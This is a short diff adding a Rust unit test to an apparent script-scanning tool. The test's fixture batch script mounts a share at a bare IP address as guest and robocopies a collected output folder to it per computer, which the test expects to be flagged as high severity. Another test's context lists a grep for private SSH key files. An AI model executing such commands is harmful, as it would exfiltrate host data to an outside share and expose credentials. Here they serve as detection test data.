@@ -239,6 +239,26 @@ mod tests {
     }
 
     #[test]
+    fn files_copied_to_a_share_at_a_bare_address() {
+        let found = rules(
+            "s.bat",
+            "net use \\\\203.0.113.250\\acct /user:guest \"\"\nrobocopy \"%OUT%\" \\\\203.0.113.250\\acct\\%COMPUTERNAME% /E\n",
+        );
+        assert!(
+            found.contains(&(id::CollectorEndpoint.code, Severity::High)),
+            "{found:?}"
+        );
+        let found = rules(
+            "s.bat",
+            "robocopy build \\\\fileserver\\builds /E\ncopy a.txt \\\\192.168.1.5\\share\n",
+        );
+        assert!(
+            found.iter().all(|(_, s)| *s < Severity::Medium),
+            "{found:?}"
+        );
+    }
+
+    #[test]
     fn kinds_of_key_files_are_no_store_read() {
         for text in [
             "grep -E 'id_rsa$|id_ecdsa$|id_ed25519$' list.txt\n",
